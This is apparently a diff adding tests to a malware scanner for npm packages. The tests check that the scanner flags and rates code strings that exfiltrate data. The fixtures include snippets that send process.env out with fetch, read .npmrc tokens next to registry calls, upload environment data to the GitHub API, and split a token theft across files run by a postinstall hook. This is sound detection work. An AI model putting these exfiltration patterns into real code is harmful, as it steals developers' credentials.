@@ -92,3 +92,72 @@ for (const code of [
 ])
   test(`a large file that takes all of them is told of: ${code.slice(0, 70)}`, () =>
     assert.ok(threatsOf(scanOf({ 'index.js': large(code) })).includes(near)));
+
+/** Parsed, and too long to be looked at whole. */
+const bundle = (code: string): string => `${code}\nconst rest = '${'y '.repeat(30_000)}';\n`;
+const keeps = 'class A { constructor() { this.all = process.env; } one(name) { return this.all[name]; } }';
+const tells =
+  'class B { constructor(a) { this.a = a; } go() { fetch(url, { body: JSON.stringify(this.a) }); } }';
+const exfiltration = 'malware/exfiltrate-environment';
+for (const [what, code] of [
+  ['another class of a bundle', `${keeps} ${tells} new B(1).go(new A().one('CI'));`],
+  [
+    'a class of the same inner name',
+    `const A = ${keeps.replace('class A', 'class e')}; const B = ${tells.replace('class B', 'class e')}; new B(1); new A();`,
+  ],
+  [
+    'whether a variable is there',
+    `${keeps} const is = 'CI' in process.env; fetch(url, { body: JSON.stringify({ is }) });`,
+  ],
+] as const)
+  test(`${what}: no ${exfiltration}`, () =>
+    assert.ok(!threatsOf(scanOf({ 'index.js': bundle(code) })).includes(exfiltration)));
+for (const code of [
+  keeps.replace('one(name)', 'go() { fetch(url, { body: JSON.stringify(this.all) }); } one(name)'),
+  `${keeps} class B extends A { go() { fetch(url, { body: JSON.stringify(this.all) }); } } new B().go();`,
+  `${keeps} const C = A; class B extends C { go() { fetch(url, { body: JSON.stringify(this.all) }); } } new B().go();`,
+  `${keeps} class B { go() { fetch(url, { body: JSON.stringify(this.all) }); } } Object.setPrototypeOf(B.prototype, A.prototype);`,
+  `${keeps} ${tells} new B(new A()).go();`,
+  `${keeps} const a = new A(); ${tells} new B(a.all).go();`,
+  `${keeps} fetch(url, { body: JSON.stringify(new A()) });`,
+])
+  test(`${exfiltration} is told of a bundle with ${code.slice(keeps.length - 30, keeps.length + 90)}`, () =>
+    assert.ok(threatsOf(scanOf({ 'index.js': bundle(code) })).includes(exfiltration)));
+
+const severityOf = (rule: string, code: string): string | undefined =>
+  scanOf({ 'index.js': large(code) }).findings.find((found) => found.rule === rule)?.severity;
+const gap = `\n// ${'z '.repeat(3000)}\n`;
+const asks = "const https = require('https'); https.get(registry + '/-/whoami');";
+test('words far apart in a file that is not parsed count as in one that is', () => {
+  const survey = 'malware/token-survey';
+  assert.equal(severityOf(survey, `${asks} read('.npmrc');`), 'high');
+  assert.equal(severityOf(survey, `${asks}${gap.slice(0, 1500)} read('.npmrc');`), 'high');
+  assert.equal(severityOf(survey, `${'//\n'.repeat(300)}${asks}${gap} read('.npmrc');`), 'medium');
+  // What is bad by itself does not become less so.
+  const upload = `fetch('https://api.github.com/user/repos', {});${gap.slice(0, 3000)} send(JSON.stringify(process.env));`;
+  assert.equal(severityOf('malware/upload-to-repository', upload), 'high');
+});
+test('the archive of a repository is fetched, and not uploaded', () => {
+  const code = (path: string): string =>
+    `const at = 'https://api.github.com/repos/a/b/${path}'; fetch(at); spawn('a', { env: { ...process.env } });`;
+  assert.equal(severityOf('malware/upload-to-repository', code('tarball/latest')), undefined);
+  for (const path of ['contents/a', 'git/blobs', 'releases', "tarball'.replace('tarball', 'contents') + '"])
+    assert.equal(severityOf('malware/upload-to-repository', code(path)), 'high');
+});
+test('whoami of a registry is no name of the machine, the program is', () => {
+  const rule = 'malware/identity-near-network';
+  assert.equal(severityOf(rule, asks), undefined);
+  assert.equal(severityOf(rule, `${asks} exec('whoami');`), 'medium');
+});
+test('a theft split over files that an install script reaches is refused, however much lies between', () => {
+  const report = scanOf(
+    {
+      'a.js': bundle("require('./b'); require('./c');"),
+      'b.js': bundle("require('./d');"),
+      'c.js': bundle("exports.read = () => require('fs').readFileSync(home + '/.npmrc');"),
+      'd.js': bundle("exports.send = (it) => fetch(url, { method: 'POST', body: it });"),
+    },
+    { scripts: { postinstall: 'node a.js' } },
+  );
+  assert.ok((report.score?.value ?? 0) >= 7);
+});
